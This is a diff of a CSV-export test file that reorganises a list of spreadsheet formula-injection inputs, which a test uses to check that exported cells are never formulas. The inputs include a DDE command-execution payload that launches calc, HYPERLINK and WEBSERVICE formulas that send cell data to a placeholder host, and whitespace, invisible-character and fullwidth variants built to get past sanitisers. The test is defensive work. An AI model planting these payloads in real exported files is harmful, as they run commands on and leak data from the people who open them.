@@ -59,35 +59,21 @@ describe("a histogram as CSV", () => {
 });
 
 /** What spreadsheets were made to run, and how it is hidden. */
-const formulas = [
-  ...["=", "+", "-", "@"].flatMap((sign) =>
-    [
-      "1+1",
-      "cmd|' /C calc'!A0",
-      'HYPERLINK("https://canary.invalid/?"&A1,"x")',
-      'WEBSERVICE("https://canary.invalid")',
-      "IMPORTXML(1)",
-      "SUM(A1:A9)",
-    ].map((rest) => sign + rest),
-  ),
-  ...[
-    "\t",
-    "\r",
-    "\n",
-    "\r\n",
-    " ",
-    "\u00a0",
-    "\u200b",
-    "\ufeff",
-    "\v",
-    "\f",
-    "\0",
-    "\u2028",
-    "\u001b",
-    "\u0085",
-  ].flatMap((before) => ["=1", "+1", "-1", "@x", "\t=1"].map((rest) => before + rest)),
-  ...["＝1", "＋1", "－1", "＠x", '=1",=2', '"=1', "=", "-", "\tx", "\rx"],
+const calls = [
+  "1+1",
+  "cmd|' /C calc'!A0",
+  'HYPERLINK("https://canary.invalid/?"&A1,"x")',
+  'WEBSERVICE("https://canary.invalid")',
+  "IMPORTXML(1)",
+  "SUM(A1:A9)",
 ];
+const blanks = [Array.from("\t\r\n \u00a0\u200b\ufeff\v\f\0\u2028\u001b\u0085"), "\r\n"].flat();
+const others = ["＝1", "＋1", "－1", "＠x", '=1",=2', '"=1', "=", "-", "\tx", "\rx"];
+const formulas = [
+  calls.flatMap((call) => ["=", "+", "-", "@"].map((sign) => sign + call)),
+  blanks.flatMap((blank) => ["=1", "+1", "-1", "@x", "\t=1"].map((rest) => blank + rest)),
+  others,
+].flat();
 
 describe("a cell of CSV", () => {
   it("is no formula", () => {
